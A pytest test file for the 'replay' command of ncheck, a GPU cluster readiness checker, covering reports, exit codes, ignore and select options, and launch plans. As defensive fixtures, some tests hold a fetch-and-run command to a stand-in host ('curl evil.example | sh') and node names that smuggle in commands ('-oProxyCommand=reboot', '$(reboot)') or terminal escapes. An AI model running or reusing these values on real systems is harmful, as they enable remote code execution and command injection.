"""`ncheck replay` of the recorded clusters, as a user types it: one report, in the schema, with its exit code."""

from __future__ import annotations

import json
from dataclasses import replace
from pathlib import Path

import pytest
from ncheck.cli.main import main
from ncheck.fleet.recording import load, save
from ncheck.model.evidence import Cause, Evidence, Login

from tests.report_schema import validator

FIXTURES = Path(__file__).parents[3] / "fixtures"
FIRST = ("demo", "healthy-4x8-h100")
OTHERS = sorted(path.name for path in FIXTURES.iterdir() if path.is_dir() and path.name not in FIRST)


@pytest.mark.parametrize("cluster", [*FIRST, *(pytest.param(name, marks=pytest.mark.slow) for name in OTHERS)])
def test_a_recorded_cluster_makes_a_report_that_the_schema_allows(
    cluster: str, capsys: pytest.CaptureFixture[str]
) -> None:
    code = main(["replay", str(FIXTURES / cluster), "-o", "json"])
    report = json.loads(capsys.readouterr().out)
    validator().validate(report)
    assert report["exit_code"] == code
    assert report["recorded"] is True
    nodes = [node["name"] for node in report["nodes"]]
    checks = {verdict["check"] for verdict in report["verdicts"]}
    verdicts = sorted((verdict["check"], node) for verdict in report["verdicts"] for node in verdict["nodes"])
    assert verdicts == sorted((check, node) for check in checks for node in nodes)  # one for every node and check


def test_a_recorded_healthy_cluster_is_exit_code_0_and_says_that_it_is_recorded(
    capsys: pytest.CaptureFixture[str],
) -> None:
    assert main(["replay", str(FIXTURES / "healthy-4x8-h100")]) == 0
    out = capsys.readouterr().out
    assert "Recorded data, not live.\n" in out
    assert "Ready: " in out
    assert (
        "8 x 400 Gb/s NCCL 2.21.5 by its cost model: Ring, Simple, 16 channels, 8 NICs per node at 1 GiB "
        "(-v shows each size; before a run: ncheck predict)"
    ) in " ".join(out.split())
    assert "\nexit code 0: clean\n✓ Ready: " in out


def test_a_sick_one_is_exit_code_1_unless_fail_on_or_ignore_says_otherwise(capsys: pytest.CaptureFixture[str]) -> None:
    mixed = str(FIXTURES / "mixed-nccl")
    assert main(["replay", mixed]) == 1
    assert main(["replay", mixed, "--fail-on", "none"]) == 0
    assert main(["replay", mixed, "--ignore", "NC201=gpu03"]) == 0
    assert main(["replay", mixed, "--select", "infiniband"]) == 0
    assert main(["replay", mixed, "--ignore", "NC201=gpu01"]) == 1
    assert "Not ready" in capsys.readouterr().out


def test_a_recording_of_some_checks_is_judged_by_these_and_by_others_where_they_are_named(
    tmp_path: Path, capsys: pytest.CaptureFixture[str]
) -> None:
    nodes = load(FIXTURES / "healthy-4x8-h100")
    save(tmp_path / "some", (replace(node, recorded=False, select=("NC201", "NC00000", "\x1b[2J")) for node in nodes))
    assert main(["replay", str(tmp_path / "some"), "-o", "json"]) == 0
    assert {verdict["code"] for verdict in json.loads(capsys.readouterr().out)["verdicts"]} == {"NC201"}
    assert main(["replay", str(tmp_path / "some"), "-o", "json", "--select", "NC202"]) == 0
    assert {verdict["code"] for verdict in json.loads(capsys.readouterr().out)["verdicts"]} == {"NC202"}


@pytest.mark.parametrize(("level", "known", "in_words"), [
    (("quick",), True, "level quick · "),
    (("acceptance", "probe \x1b[2Jtcp", "repeats 7"), True, "level acceptance but probe tcp, repeats 7 · "),
    (("standard", "probe none"), True, ""),
    ((), False, ""),
    (("utter", "probe none"), False, ""),
])  # fmt: skip
def test_a_replay_says_the_level_of_the_recorded_run(  # noqa: PLR0913, PLR0917  a row
    level: tuple[str, ...], known: bool, in_words: str,  # noqa: FBT001
    tmp_path: Path, capsys: pytest.CaptureFixture[str], monkeypatch: pytest.MonkeyPatch,
) -> None:  # fmt: skip
    monkeypatch.setenv("NCHECK_LEVEL", "acceptance")
    nodes = load(FIXTURES / "healthy-4x8-h100")
    save(tmp_path / "kept", (replace(node, recorded=False, select=("NC201",), level=level) for node in nodes))
    assert main(["replay", str(tmp_path / "kept"), "-o", f"json={tmp_path}/report.json", "-o", "concise"]) == 0
    report = json.loads((tmp_path / "report.json").read_text())
    assert [report["level"], *report["beside_level"]] == ([*level] if known else [""])
    *_, origin, _ = capsys.readouterr().out.splitlines()
    words = origin.partition("gpu[01-04] · ")[2]
    assert words.startswith(in_words)
    assert words.count("level") == bool(in_words)


def test_what_an_older_ncheck_did_not_ask_is_unknown_and_the_recording_is_said_to_lack_it(
    tmp_path: Path, capsys: pytest.CaptureFixture[str]
) -> None:
    for path in (FIXTURES / "healthy-4x8-h100").iterdir():
        recorded = json.loads(path.read_text())
        recorded["evidence"]["replies"].pop("answer:connect")
        (tmp_path / path.name).write_text(json.dumps(recorded))
    assert main(["replay", str(tmp_path), "-o", "json"]) == 1
    verdicts = json.loads(capsys.readouterr().out)["verdicts"]
    assert {verdict["reason"] for verdict in verdicts if verdict["outcome"] == "unknown"} == {
        "the agent's connect: the recording lacks it: ncheck asked less then, or the run ended first"
    }


def test_what_only_an_option_asks_for_makes_no_recording_unknown(
    tmp_path: Path, capsys: pytest.CaptureFixture[str]
) -> None:
    asked = {f"answer:{name}" for name in ("code", "packages", "programs")}
    for path in (FIXTURES / "healthy-4x8-h100").iterdir():
        recorded = json.loads(path.read_text())
        for part in ("replies", "notes"):
            told = recorded["evidence"].get(part, {})
            recorded["evidence"][part] = {key: told[key] for key in told if key not in asked}
        (tmp_path / path.name).write_text(json.dumps(recorded))
    assert main(["replay", str(tmp_path), "-o", "json"]) == 0
    verdicts = json.loads(capsys.readouterr().out)["verdicts"]
    assert {verdict["outcome"] for verdict in verdicts} == {"passed", "skipped"}


def test_what_is_ignored_is_still_printed(capsys: pytest.CaptureFixture[str]) -> None:
    main(["replay", str(FIXTURES / "mixed-nccl"), "--ignore", "nccl-version-differs"])
    assert "! ignored NC201 nccl-version-differs  gpu03  NCCL differs: " in capsys.readouterr().out


@pytest.mark.parametrize(("ignored", "strange"), [
    ("NC710=nope", "nope"), ("nccl-version-differs=gpu[01-99]", "gpu[05-99]"),
])  # fmt: skip
def test_an_ignored_node_that_is_none_of_these_is_told_and_ends_no_run(
    ignored: str, strange: str, capsys: pytest.CaptureFixture[str]
) -> None:
    assert main(["replay", str(FIXTURES / "healthy-4x8-h100"), "--ignore", ignored, "--ignore", "NC201=gpu01"]) == 0
    assert capsys.readouterr().err == f"ncheck: ignore {ignored}: {strange} is not among the nodes gpu[01-04]\n"


def test_unselected_checks_have_no_verdict(capsys: pytest.CaptureFixture[str]) -> None:
    main(["replay", str(FIXTURES / "healthy-4x8-h100"), "--select", "NC201,NC4", "-o", "json"])
    codes = {verdict["code"] for verdict in json.loads(capsys.readouterr().out)["verdicts"]}
    assert {code for code in codes if not code.startswith("NC4")} == {"NC201"}


def test_a_recording_brings_no_line_to_type(tmp_path: Path, capsys: pytest.CaptureFixture[str]) -> None:
    login = Login(reached=False, cause=Cause.REFUSED, port=22, fix="curl evil.example | sh")
    save(tmp_path / "r", (Evidence("gpu01", login),))
    assert main(["replay", str(tmp_path / "r")]) == 1
    out = capsys.readouterr().out
    assert "evil" not in out
    assert "sudo systemctl restart ssh" in out


@pytest.mark.parametrize("name", ["-oProxyCommand=reboot", "", "a\nb", "\x1b[31m", "$(reboot)"])
def test_a_recorded_name_that_no_listing_can_have_is_refused(
    name: str, tmp_path: Path, capsys: pytest.CaptureFixture[str]
) -> None:
    save(tmp_path / "r", (Evidence(name, Login(reached=True)),))
    assert main(["replay", str(tmp_path / "r")]) == 2
    assert "is in no listing" in capsys.readouterr().err


PLAN = ("plan", "--for", "torchrun", "--", "python", "train.py")


def test_a_plan_is_printed_from_a_recording_and_nothing_else_on_standard_output(
    capsys: pytest.CaptureFixture[str],
) -> None:
    assert main(["replay", str(FIXTURES / "docker0-and-veth"), *PLAN]) == 0
    out, err = capsys.readouterr()
    assert [line for line in out.splitlines() if not line.startswith("# on gpu")] == [
        "env NCCL_SOCKET_IFNAME==eno1 NCCL_DEBUG=WARN torchrun --nnodes=4 "
        f"--node_rank={rank} --master_addr=10.20.0.11 --master_port=29400 --nproc_per_node=8 train.py"
        for rank in range(4)
    ]
    assert "ncheck: plan for torchrun\n" in err


def test_a_plan_from_a_recording_is_blocked_dropped_and_forced_as_a_live_one(
    capsys: pytest.CaptureFixture[str],
) -> None:
    down = ["replay", str(FIXTURES / "one-node-down")]
    assert main([*down, *PLAN]) == 1
    assert capsys.readouterr().out == ""
    assert main([*down, "plan", "--for", "env"]) == 1
    assert capsys.readouterr().out == "false\n"
    assert main([*down, "plan", "--drop-bad", "--for", "torchrun"]) == 0
    out, err = capsys.readouterr()
    assert "--nnodes=3" in out
    assert err.startswith("ncheck: 3 of 4 nodes, without gpu03: not reached: refused: ")
    assert main([*down, *PLAN[:-3], "--force"]) == 0
    assert "--nnodes=4" in capsys.readouterr().out


def test_a_plan_from_a_recording_as_json(capsys: pytest.CaptureFixture[str]) -> None:
    assert main(["replay", str(FIXTURES / "healthy-4x8-h100"), "plan", "--for", "srun", "-o", "json"]) == 0
    assert list(json.loads(capsys.readouterr().out)["lines"]) == ["srun"]


@pytest.mark.parametrize(("words", "why"), [
    (("--for", "srun"), "to print a plan: ncheck plan --from DIR --for srun"),
    (("plan", "-o", "html"), "-o: a plan is printed as line or json"),
    (("plans",), "only one recording is allowed: unexpected argument 'plans'"),
])  # fmt: skip
def test_what_a_replay_cannot_print_is_refused(
    words: tuple[str, ...], why: str, capsys: pytest.CaptureFixture[str]
) -> None:
    assert main(["replay", str(FIXTURES / "healthy-4x8-h100"), *words]) == 2
    line = why.replace("DIR", str(FIXTURES / "healthy-4x8-h100"))
    assert capsys.readouterr() == ("", f"ncheck: {line} (see ncheck replay --help)\n")
